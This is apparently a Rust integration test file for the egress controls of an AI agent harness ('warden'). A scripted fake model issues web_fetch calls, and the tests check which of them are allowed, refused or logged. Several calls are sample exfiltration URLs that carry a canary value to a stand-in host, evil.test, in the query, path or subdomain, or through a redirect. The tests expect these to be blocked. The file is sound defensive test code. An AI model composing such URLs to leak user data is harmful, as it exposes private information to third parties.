//! Egress through the real `warden run` (nobody to approve), a scripted model on 127.0.0.1 and
//! the fake web, which `[egress.resolve]` maps the test names to (no real name is resolved).
//! A URL the user sent and a link on its page are fetched without a prompt; a URL the model
//! composed — a canary in its query, its path or a subdomain label — is refused with no lookup
//! and no connection, the refusal naming the config key; an allowed host redirecting to an
//! unlisted one is refused at the redirect. Every decision is in the audit log.

use crate::support::fake_llm::{FakeLlm, Turn};
use crate::support::fake_web::FakeWeb;
use crate::support::warden_run::{audit_rows, lookups, warden_run, write_config};
use serde_json::{json, Value};
use std::path::Path;

const CANARY: &str = "canary-5d1e0b";

/// The egress rows of the audit log: (decision, input).
fn egress_audit(home: &Path) -> Vec<(String, Value)> {
    audit_rows(home, "egress")
}

fn fetch(url: &str) -> Turn {
    Turn::tool_use("web_fetch", json!({ "url": url }))
}

#[tokio::test]
async fn the_users_url_and_a_link_on_its_page_are_fetched_without_a_prompt() {
    let web = FakeWeb::start().await;
    let llm = FakeLlm::anthropic(vec![
        fetch("http://docs.test/page"),
        fetch("http://other.test/linked?from=page"),
        Turn::text("Both read."),
    ])
    .await;
    let home = tempfile::tempdir().unwrap();
    write_config(home.path(), &web.resolve_toml());
    let out = warden_run(home.path(), &llm, "Summarize http://docs.test/page for me").await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert_eq!(stdout.trim(), "Both read.");
    assert_eq!(
        web.requests(),
        ["docs.test/page", "other.test/linked?from=page"]
    );
    // The log shows each lookup (what the refusals below assert is absent).
    assert_eq!(lookups(&stderr).len(), 2, "{stderr}");
    let results = llm.requests()[2].tool_results();
    assert!(results.iter().all(|r| !r.is_error), "{results:?}");
    assert!(results[1].content.contains("UNTRUSTED"));
    let rows = egress_audit(home.path());
    assert_eq!(rows.len(), 2);
    assert!(rows.iter().all(|(d, _)| d == "allow"), "{rows:?}");
    assert_eq!(rows[0].1["provenance"], "user message");
    assert_eq!(rows[1].1["provenance"], "fetched page");
    assert_eq!(rows[1].1["host"], "other.test");
}

#[tokio::test]
async fn composed_canary_urls_are_refused_with_no_lookup_and_no_connection() {
    let web = FakeWeb::start().await;
    let urls = [
        format!("http://evil.test/collect?d={CANARY}"),
        format!("http://evil.test/{CANARY}.png"),
        format!("http://{CANARY}.evil.test/"),
    ];
    let llm = FakeLlm::anthropic(vec![
        fetch(&urls[0]),
        fetch(&urls[1]),
        fetch(&urls[2]),
        Turn::text("Could not send it."),
    ])
    .await;
    let home = tempfile::tempdir().unwrap();
    write_config(home.path(), &web.resolve_toml());
    let out = warden_run(home.path(), &llm, "What is in my notes?").await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("[web_fetch] not approved"), "{stderr}");
    assert_eq!(lookups(&stderr), Vec::<&str>::new());
    assert_eq!(web.connections(), 0);
    let results = llm.requests()[3].tool_results();
    for (i, result) in results.iter().enumerate() {
        assert!(result.is_error, "{result:?}");
        assert!(
            result.content.contains("the model composed this URL"),
            "{}",
            result.content
        );
        let host = if i == 2 {
            format!("{CANARY}.evil.test")
        } else {
            "evil.test".into()
        };
        assert!(
            result
                .content
                .contains(&format!("[egress.hosts] \"{host}\" = \"allow\"")),
            "{}",
            result.content
        );
    }
    let rows = egress_audit(home.path());
    assert_eq!(rows.len(), 3);
    for ((decision, input), url) in rows.iter().zip(&urls) {
        assert_eq!(decision, "rejected");
        assert_eq!(input["url"], url.as_str());
        assert_eq!(input["provenance"], "composed by the model");
        assert_eq!(input["rule"], Value::Null);
    }
}

#[tokio::test]
async fn an_allowed_host_redirecting_to_an_unlisted_host_is_refused_at_the_redirect() {
    let web = FakeWeb::start().await;
    let target = format!("http://unlisted.test/c?d={CANARY}");
    let bounce = format!(
        "http://allowed.test/bounce?to={}",
        url::form_urlencoded::byte_serialize(target.as_bytes()).collect::<String>()
    );
    let llm = FakeLlm::anthropic(vec![fetch(&bounce), Turn::text("Refused.")]).await;
    let home = tempfile::tempdir().unwrap();
    write_config(
        home.path(),
        &format!(
            "{}\n[egress.hosts]\n\"allowed.test\" = \"allow\"\n",
            web.resolve_toml()
        ),
    );
    let out = warden_run(home.path(), &llm, "hello").await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(web.requests().len(), 1, "{:?}", web.requests());
    assert!(web.requests()[0].starts_with("allowed.test/bounce"));
    let resolved = lookups(&stderr);
    assert!(
        resolved.len() == 1 && resolved[0].contains("allowed.test"),
        "{resolved:?}"
    );
    let result = llm.requests()[1].tool_results().pop().unwrap();
    assert!(result.is_error);
    assert!(
        result.content.contains("redirected here"),
        "{}",
        result.content
    );
    let rows = egress_audit(home.path());
    let decisions: Vec<(&str, &str)> = rows
        .iter()
        .map(|(d, i)| (d.as_str(), i["host"].as_str().unwrap()))
        .collect();
    assert_eq!(
        decisions,
        [("allow", "allowed.test"), ("rejected", "unlisted.test")]
    );
    assert_eq!(
        rows[0].1["rule"],
        "[egress.hosts] \"allowed.test\" = \"allow\""
    );
}

#[tokio::test]
async fn an_invalid_rule_is_a_config_error_naming_the_key() {
    let llm = FakeLlm::anthropic(vec![]).await;
    let home = tempfile::tempdir().unwrap();
    write_config(
        home.path(),
        "[egress.hosts]\n\"pastebin.com\" = \"block\"\n",
    );
    let out = warden_run(home.path(), &llm, "hello").await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("egress.hosts.\"pastebin.com\""), "{stderr}");
    assert_eq!(llm.request_count(), 0);
}

#[tokio::test]
async fn the_policy_file_extends_the_host_rules_and_the_config_wins() {
    let web = FakeWeb::start().await;
    let home = tempfile::tempdir().unwrap();
    let policy = home.path().join("policy.toml");
    std::fs::write(
        &policy,
        "[egress.hosts]\n\"evil.test\" = \"allow\"\n\"other.test\" = \"allow\"\n",
    )
    .unwrap();
    write_config(
        home.path(),
        &format!(
            "policy = {:?}\n{}\n[egress.hosts]\n\"other.test\" = \"deny\"\n",
            policy.display().to_string(),
            web.resolve_toml()
        ),
    );
    let llm = FakeLlm::anthropic(vec![
        fetch(&format!("http://evil.test/collect?d={CANARY}")),
        fetch("http://other.test/x"),
        Turn::text("done"),
    ])
    .await;
    let out = warden_run(home.path(), &llm, "go").await;
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let results = llm.requests()[2].tool_results();
    assert!(!results[0].is_error, "{}", results[0].content);
    assert!(results[1].is_error, "{}", results[1].content);
    assert_eq!(web.requests(), [format!("evil.test/collect?d={CANARY}")]);
    let rows = egress_audit(home.path());
    assert_eq!(rows[0].0, "allow");
    assert_eq!(rows[1].0, "deny");

    // A bad rule in the policy file stops warden with its key.
    std::fs::write(&policy, "[egress.hosts]\n\"evil.test\" = \"sometimes\"\n").unwrap();
    let out = warden_run(home.path(), &llm, "go").await;
    assert_ne!(out.status.code(), Some(0));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("egress.hosts.\"evil.test\""), "{stderr}");
}
